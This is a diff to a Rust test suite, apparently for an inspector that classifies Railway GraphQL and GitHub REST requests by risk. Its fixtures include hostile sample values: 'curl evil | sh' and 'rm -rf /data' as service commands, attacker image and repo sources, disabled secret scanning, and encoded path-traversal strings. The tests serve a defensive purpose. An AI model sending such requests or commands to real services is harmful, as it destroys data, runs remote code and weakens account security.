@@ -1023,7 +1023,8 @@ fn nested_input_resources_through_a_variable_object() {
 #[test]
 fn environment_patches_that_delete_are_destructive() {
     let doc = "mutation ($e: String!, $p: EnvironmentConfig!) { environmentPatchCommit(environmentId: $e, patch: $p) }";
-    let harmless = json!({ "services": { "svc-1": { "variables": { "A": { "value": "1" } }, "isDeleted": false } } });
+    let harmless =
+        json!({ "services": { "svc-1": { "deploy": { "numReplicas": 2 }, "isDeleted": false } } });
     let i = railway_doc(doc, Some(json!({ "e": "env-1", "p": harmless })));
     assert_eq!(ops(&i), want(&[("environmentPatchCommit", Write)]));
     assert_eq!(resources(&i), res(&[("environmentId", &["env-1"])]));
@@ -1056,7 +1057,7 @@ fn environment_patches_that_delete_are_destructive() {
         (r#"{services: {s: {variables: {A: null}}}}"#, Destructive),
         (r#"{services: {s: {isDeleted: $d}}}"#, Destructive),
         (
-            r#"{services: {s: {isDeleted: false, variables: {A: {value: "1"}}}}}"#,
+            r#"{services: {s: {isDeleted: false, deploy: {numReplicas: 2}}}}"#,
             Write,
         ),
     ] {
@@ -1086,6 +1087,310 @@ fn environment_patches_that_delete_are_destructive() {
         ops(&railway_json(&body.to_string())),
         want(&[("me", Read), ("environmentPatchCommit", Destructive)])
     );
+}
+
+#[test]
+fn patches_that_set_variables_or_change_what_runs_are_destructive() {
+    let commit = "mutation ($e: String!, $p: EnvironmentConfig) { environmentPatchCommit(environmentId: $e, patch: $p) }";
+    let stage = "mutation ($e: String!, $p: EnvironmentConfig!) { environmentStageChanges(environmentId: $e, input: $p) }";
+    let harmless = [
+        json!({ "services": { "s": { "deploy": { "numReplicas": 3, "healthcheckPath": "/up" } } } }),
+        json!({ "services": { "s": { "variables": {} } }, "sharedVariables": {} }),
+        json!({ "volumes": { "v": { "sizeMB": 5000 } } }),
+        json!({}),
+    ];
+    let escalating = [
+        json!({ "services": { "s": { "variables": { "DATABASE_URL": { "value": "postgres://evil" } } } } }),
+        json!({ "services": { "s": { "variables": { "A": { "description": "x" } } } } }),
+        json!({ "sharedVariables": { "API_KEY": { "value": "x" } } }),
+        json!({ "services": { "s": { "deploy": { "startCommand": "rm -rf /data" } } } }),
+        json!({ "services": { "s": { "deploy": { "preDeployCommand": ["sh", "-c", "x"] } } } }),
+        json!({ "services": { "s": { "build": { "buildCommand": "curl evil | sh" } } } }),
+        json!({ "services": { "s": { "source": { "image": "evil/image" } } } }),
+        json!({ "services": { "s": { "source": { "repo": "evil/repo" } } } }),
+        json!({ "services": { "s": { "volumeMounts": { "vol-1": { "mountPath": "/tmp" } } } } }),
+        // one harmless service next to one that is not
+        json!({ "services": { "a": { "deploy": { "numReplicas": 1 } }, "b": { "deploy": { "startCommand": "x" } } } }),
+        // services as a list rather than a map
+        json!({ "services": [ { "deploy": { "startCommand": "x" } } ] }),
+        // JSON sent as a string, which a lenient JSON scalar would parse
+        json!(r#"{"services":{"s":{"isDeleted":true}}}"#),
+        json!({ "services": r#"{"s":{"variables":{"A":{"value":"x"}}}}"# }),
+        json!({ "services": { "s": r#"{"deploy":{"startCommand":"x"}}"# } }),
+        // and a JSON-like string that does not parse cannot be ruled out
+        json!({ "services": { "s": r#"{"deploy":{"startCommand":"x","startCommand":"y"}}"# } }),
+    ];
+    for doc in [commit, stage] {
+        for p in &harmless {
+            let i = railway_doc(doc, Some(json!({ "e": "env-1", "p": p })));
+            assert_eq!(ops(&i)[0].1, Write, "{doc} {p}");
+            assert_eq!(i.operations[0].note, None);
+        }
+        for p in &escalating {
+            let i = railway_doc(doc, Some(json!({ "e": "env-1", "p": p })));
+            assert_eq!(ops(&i)[0].1, Destructive, "{doc} {p}");
+            assert!(i.operations[0].note.is_some(), "{p}");
+            assert_eq!(resources(&i), res(&[("environmentId", &["env-1"])]));
+        }
+    }
+    // inline, a variable inside an inline patch, and behind an alias in a fragment
+    for (doc, vars) in [
+        (
+            r#"mutation { environmentPatchCommit(environmentId: "e", patch: {services: {s: {deploy: {startCommand: "x"}}}}) }"#,
+            None,
+        ),
+        (
+            r#"mutation ($c: String) { environmentPatchCommit(environmentId: "e", patch: {services: {s: {deploy: {startCommand: $c}}}}) }"#,
+            Some(json!({ "c": "x" })),
+        ),
+        (
+            r#"mutation ($v: JSON) { environmentPatchCommit(environmentId: "e", patch: {sharedVariables: {K: $v}}) }"#,
+            Some(json!({ "v": { "value": "x" } })),
+        ),
+        (
+            r#"mutation ($p: EnvironmentConfig) { ...F } fragment F on Mutation { ok: environmentPatchCommit(environmentId: "e", patch: $p) }"#,
+            Some(
+                json!({ "p": { "services": { "s": { "variables": { "K": { "value": "x" } } } } } }),
+            ),
+        ),
+    ] {
+        assert_eq!(
+            ops(&railway_doc(doc, vars)),
+            want(&[("environmentPatchCommit", Destructive)]),
+            "{doc}"
+        );
+    }
+}
+
+#[test]
+fn service_updates_that_change_what_runs_are_destructive() {
+    let doc = "mutation ($s: String!, $e: String, $i: ServiceInstanceUpdateInput!) { serviceInstanceUpdate(serviceId: $s, environmentId: $e, input: $i) }";
+    let run = |input: serde_json::Value| {
+        railway_doc(doc, Some(json!({ "s": "svc", "e": "env", "i": input })))
+    };
+    for input in [
+        json!({ "numReplicas": 2 }),
+        json!({ "region": "eu-west", "healthcheckPath": "/up", "sleepApplication": false }),
+    ] {
+        let i = run(input.clone());
+        assert_eq!(
+            ops(&i),
+            want(&[("serviceInstanceUpdate", Write)]),
+            "{input}"
+        );
+        assert_eq!(
+            resources(&i),
+            res(&[("environmentId", &["env"]), ("serviceId", &["svc"])])
+        );
+    }
+    for input in [
+        json!({ "startCommand": "rm -rf /data" }),
+        // clearing a command changes what runs too
+        json!({ "startCommand": null }),
+        json!({ "preDeployCommand": ["x"] }),
+        json!({ "buildCommand": "x", "numReplicas": 1 }),
+        json!({ "source": { "image": "evil/image" } }),
+        json!({ "nixpacksPlan": { "phases": {} } }),
+        json!({ "railwayConfigFile": "other.json" }),
+        json!({ "registryCredentials": { "username": "u", "password": "p" } }),
+    ] {
+        assert_eq!(
+            ops(&run(input.clone())),
+            want(&[("serviceInstanceUpdate", Destructive)]),
+            "{input}"
+        );
+    }
+    // inline arguments, and an explicit null inline
+    for doc in [
+        r#"mutation { serviceInstanceUpdate(serviceId: "s", input: {startCommand: "x"}) }"#,
+        r#"mutation { serviceInstanceUpdate(serviceId: "s", input: {startCommand: null}) }"#,
+        r#"mutation ($c: String) { serviceInstanceUpdate(serviceId: "s", input: {startCommand: $c}) }"#,
+    ] {
+        assert_eq!(
+            ops(&railway_doc(doc, None)),
+            want(&[("serviceInstanceUpdate", Destructive)]),
+            "{doc}"
+        );
+    }
+    // an input variable that is absent sends nothing
+    assert_eq!(
+        ops(&railway_doc(doc, Some(json!({ "s": "svc" })))),
+        want(&[("serviceInstanceUpdate", Write)])
+    );
+}
+
+#[test]
+fn minting_tokens_and_granting_access_are_destructive() {
+    for doc in [
+        r#"mutation { apiTokenCreate(input: {name: "ci"}) }"#,
+        r#"mutation { t: projectTokenCreate(input: {name: "x", projectId: "p", environmentId: "e"}) }"#,
+        r#"mutation { generateShellToken(input: {environmentId: "e", instanceId: "i", scope: "s"}) }"#,
+        r#"mutation { projectMemberAdd(input: {projectId: "p", userId: "u", role: ADMIN}) }"#,
+        r#"mutation { serviceConnect(id: "s", input: {image: "evil/image"}) }"#,
+    ] {
+        let i = railway_doc(doc, None);
+        assert_eq!(i.operations.len(), 1);
+        assert_eq!(i.operations[0].class, Destructive, "{doc}");
+    }
+    // conditions on values: equals / in
+    for (doc, class) in [
+        (
+            r#"mutation { projectUpdate(id: "p", input: {isPublic: true}) }"#,
+            Destructive,
+        ),
+        (
+            r#"mutation { projectUpdate(id: "p", input: {isPublic: false}) }"#,
+            Write,
+        ),
+        (
+            r#"mutation { projectUpdate(id: "p", input: {name: "x"}) }"#,
+            Write,
+        ),
+        (
+            r#"mutation { workspaceTwoFactorEnforcementUpdate(workspaceId: "w", enabled: false) }"#,
+            Destructive,
+        ),
+        (
+            r#"mutation { workspaceTwoFactorEnforcementUpdate(workspaceId: "w", enabled: true) }"#,
+            Write,
+        ),
+        (
+            r#"mutation { environmentCreate(input: {projectId: "p", name: "x", sourceEnvironmentId: "prod"}) }"#,
+            Destructive,
+        ),
+        (
+            r#"mutation { environmentCreate(input: {projectId: "p", name: "x"}) }"#,
+            Write,
+        ),
+    ] {
+        assert_eq!(railway_doc(doc, None).operations[0].class, class, "{doc}");
+    }
+}
+
+// ---------------------------------------------------------------------------
+// REST escalation (GitHub): the body and query decide, and a body that
+// cannot be read counts against the request.
+
+#[test]
+fn rest_writes_escalate_on_what_the_body_or_query_asks() {
+    let patch = |target: &str, headers: &[(&str, &[u8])], body: &[u8]| {
+        let i = inspect("PATCH", GITHUB, target, headers, body);
+        assert_eq!(i.operations.len(), 1);
+        assert_eq!(i.operations[0].name, "repos/update");
+        i.operations[0].clone()
+    };
+    for body in [
+        &br#"{"description":"a site","homepage":"https://x.example","has_wiki":false}"#[..],
+        br#"{"archived":false}"#,
+        b"",
+    ] {
+        let op = patch("/repos/o/r", &[JSON], body);
+        assert_eq!(op.class, Write, "{}", String::from_utf8_lossy(body));
+        assert_eq!(op.note, None);
+    }
+    let vnd: (&str, &[u8]) = (
+        "Content-Type",
+        b"application/vnd.github+json; charset=utf-8",
+    );
+    for (headers, body) in [
+        (&[JSON][..], &br#"{"archived":true}"#[..]),
+        (&[JSON], br#"{"archived":"false"}"#),
+        (&[JSON], br#"{"private":false}"#),
+        (&[JSON], br#"{"visibility":"public"}"#),
+        (&[JSON], br#"{"name":"renamed"}"#),
+        (&[JSON], br#"{"default_branch":"evil"}"#),
+        (
+            &[JSON],
+            br#"{"security_and_analysis":{"secret_scanning":{"status":"disabled"}}}"#,
+        ),
+        (&[JSON], br#"{"description":"x","\u0061rchived":true}"#),
+        (&[vnd], br#"{"archived":true}"#),
+        // no content type: GitHub reads the body as JSON anyway
+        (&[], br#"{"archived":true}"#),
+    ] {
+        let op = patch("/repos/o/r", headers, body);
+        assert_eq!(op.class, Destructive, "{}", String::from_utf8_lossy(body));
+        assert!(op.note.is_some());
+    }
+    // unreadable as JSON: the escalation is assumed
+    let form: (&str, &[u8]) = ("Content-Type", b"application/x-www-form-urlencoded");
+    let text: (&str, &[u8]) = ("Content-Type", b"text/plain");
+    let latin1: (&str, &[u8]) = ("Content-Type", b"application/json; charset=latin1");
+    for (headers, body) in [
+        (&[form][..], &br#"{"description":"x"}"#[..]),
+        (&[form], b"archived=true"),
+        (&[text], br#"{"description":"x"}"#),
+        (&[latin1], br#"{"description":"x"}"#),
+        (&[JSON], br#"{"description":"x","description":"y"}"#),
+        (&[JSON], br#"{"archived":false,"archived":true}"#),
+        (&[JSON], br#"{"description":"x"} {"archived":true}"#),
+        (&[JSON], b"not json"),
+        (&[], b"archived=true"),
+    ] {
+        let op = patch("/repos/o/r", headers, body);
+        assert_eq!(op.class, Destructive, "{}", String::from_utf8_lossy(body));
+        assert!(op.note.as_deref().unwrap().contains("assumed"), "{op:?}");
+    }
+    // a query parameter named like a body field counts (Rails merges them)
+    for target in [
+        "/repos/o/r?archived=true",
+        "/repos/o/r?visibility=public",
+        "/repos/o/r?security_and_analysis[secret_scanning][status]=disabled",
+        "/repos/o/r?x=1&private=",
+    ] {
+        let op = patch(target, &[JSON], br#"{"description":"x"}"#);
+        assert_eq!(op.class, Destructive, "{target}");
+    }
+    assert_eq!(patch("/repos/o/r?per_page=1", &[JSON], b"{}").class, Write);
+    // a compressed body is read after decoding
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    std::io::Write::write_all(&mut gz, br#"{"archived":true}"#).unwrap();
+    let gz = gz.finish().unwrap();
+    let op = patch("/repos/o/r", &[JSON, ("Content-Encoding", b"gzip")], &gz);
+    assert_eq!(op.class, Destructive);
+}
+
+#[test]
+fn force_ref_updates_are_destructive() {
+    let update = |target: &str, body: &[u8]| {
+        let i = inspect("PATCH", GITHUB, target, &[JSON], body);
+        assert_eq!(ops(&i)[0].0, "git/update-ref", "{target}");
+        i.operations[0].class
+    };
+    let r = "/repos/o/r/git/refs/heads/main";
+    assert_eq!(update(r, br#"{"sha":"abc"}"#), Write);
+    assert_eq!(update(r, br#"{"sha":"abc","force":false}"#), Write);
+    assert_eq!(update(r, br#"{"sha":"abc","force":true}"#), Destructive);
+    assert_eq!(update(r, br#"{"sha":"abc","force":"true"}"#), Destructive);
+    assert_eq!(update(r, br#"{"sha":"abc","force":1}"#), Destructive);
+    assert_eq!(
+        update(
+            "/repos/o/r/git/refs/heads/main?force=1",
+            br#"{"sha":"abc"}"#
+        ),
+        Destructive
+    );
+    // the ref written with an encoded slash is the same route and escalation
+    assert_eq!(
+        update(
+            "/repos/o/r/git/refs/heads%2Fmain",
+            br#"{"sha":"abc","force":true}"#
+        ),
+        Destructive
+    );
+    assert_eq!(
+        update("/repos/o/r/git/refs/heads%2Fmain", br#"{"sha":"abc"}"#),
+        Write
+    );
+    // transfer stays destructive whatever its body
+    let i = inspect(
+        "POST",
+        GITHUB,
+        "/repos/o/r/transfer",
+        &[JSON],
+        br#"{"new_owner":"x"}"#,
+    );
+    assert_eq!(ops(&i), want(&[("repos/transfer", Destructive)]));
 }
 
 // ---------------------------------------------------------------------------
@@ -1231,6 +1536,133 @@ fn rest_paths_a_router_could_read_differently_are_unknown() {
     );
     assert_eq!(j.endpoint, EndpointKind::Graphql);
     assert_eq!(ops(&j), ops(&i));
+}
+
+/// Go's `url.PathEscape` and JavaScript's `encodeURIComponent` (octokit's
+/// URL templates) send a `/` inside a branch, ref, path or label name as
+/// `%2F`; GitHub's router reads it as part of the parameter.
+#[test]
+fn encoded_slashes_in_parameters_that_hold_them_are_read() {
+    type Case<'a> = (&'a str, &'a str, &'a str, &'a [(&'a str, &'a [&'a str])]);
+    let cases: &[Case<'_>] = &[
+        // go-github GetBranch: url.PathEscape(branch)
+        (
+            "GET",
+            "/repos/o/r/branches/feature%2Fx",
+            "repos/get-branch",
+            &[("branch", &["feature/x"])],
+        ),
+        (
+            "GET",
+            "/repos/o/r/branches/feature%2fx%2Fy",
+            "repos/get-branch",
+            &[("branch", &["feature/x/y"])],
+        ),
+        // branch protection of a branch with a slash
+        (
+            "DELETE",
+            "/repos/o/r/branches/release%2F1.0/protection",
+            "repos/delete-branch-protection",
+            &[("branch", &["release/1.0"])],
+        ),
+        // go-github / octokit CompareCommits: base...head, each escaped
+        (
+            "GET",
+            "/repos/o/r/compare/main...feature%2Fx",
+            "repos/compare-commits-with-basehead",
+            &[("basehead", &["main...feature/x"])],
+        ),
+        // octokit updateRef / deleteRef: {ref} is expanded with `/` encoded
+        (
+            "DELETE",
+            "/repos/o/r/git/refs/heads%2Ffeature%2Fx",
+            "git/delete-ref",
+            &[("ref", &["heads/feature/x"])],
+        ),
+        (
+            "PATCH",
+            "/repos/o/r/git/refs/heads%2Ffeature",
+            "git/update-ref",
+            &[("ref", &["heads/feature"])],
+        ),
+        // octokit getContent: {path} encoded
+        (
+            "GET",
+            "/repos/o/r/contents/src%2Fmain.rs",
+            "repos/get-content",
+            &[("path", &["src/main.rs"])],
+        ),
+        // labels with a slash
+        (
+            "DELETE",
+            "/repos/o/r/labels/area%2Fui",
+            "issues/delete-label",
+            &[("name", &["area/ui"])],
+        ),
+        // environments: GitHub's documentation asks for %2F
+        (
+            "GET",
+            "/repos/o/r/environments/prod%2Feu",
+            "repos/get-environment",
+            &[("environment_name", &["prod/eu"])],
+        ),
+        // releases by tag
+        (
+            "GET",
+            "/repos/o/r/releases/tags/v1%2Frc",
+            "repos/get-release-by-tag",
+            &[("tag", &["v1/rc"])],
+        ),
+    ];
+    for (method, path, name, want_res) in cases {
+        let i = inspect(method, GITHUB, path, &[JSON], b"{}");
+        assert_eq!(i.operations.len(), 1, "{path}: {:?}", i.operations);
+        let op = &i.operations[0];
+        assert_eq!(op.name, *name, "{path}: {op:?}");
+        assert_ne!(op.class, Unknown, "{path}");
+        for (kind, values) in *want_res {
+            assert_eq!(op.resources[*kind], *values, "{path}");
+        }
+        assert_eq!(op.resources["repository"], ["o/r"], "{path}");
+    }
+}
+
+#[test]
+fn encoded_slashes_that_could_read_two_ways_are_unknown() {
+    for (method, path) in [
+        // decoded first, it is another route (branch protection, rename)
+        ("GET", "/repos/o/r/branches/main%2Fprotection"),
+        ("DELETE", "/repos/o/r/branches/main%2Fprotection"),
+        ("POST", "/repos/o/r/branches/main%2Frename"),
+        (
+            "PUT",
+            "/repos/o/r/branches/main%2Fprotection%2Frequired_signatures",
+        ),
+        // owner and repo never hold a slash; nor do literal segments
+        ("DELETE", "/repos/o%2Fr"),
+        ("DELETE", "/repos/o/r%2F"),
+        ("GET", "/repos/o%2Fx/r/branches/main"),
+        ("DELETE", "/repos%2Fo/r"),
+        ("GET", "/repos/o/r/issues/1%2Fcomments"),
+        // a slash-holding parameter smuggling dot segments
+        ("GET", "/repos/o/r/branches/x%2F..%2F..%2F..%2Fr"),
+        ("DELETE", "/repos/o/r/git/refs/x%2F..%2F..%2F..%2F..%2Fr"),
+        ("GET", "/repos/o/r/branches/..%2F..%2F..%2F..%2F..%2F.."),
+        // an encoded backslash is still refused
+        ("GET", "/repos/o/r/branches/a%5Cb"),
+    ] {
+        let i = inspect(method, GITHUB, path, &[JSON], b"{}");
+        assert_unknown(&i, "unreadable-path");
+    }
+    // Railway's catalogue names no such parameters
+    let i = inspect(
+        "POST",
+        RAILWAY,
+        "/graphql%2Fv2",
+        &[JSON],
+        VOLUME_DELETE.as_bytes(),
+    );
+    assert_unknown(&i, "unreadable-path");
 }
 
 #[test]
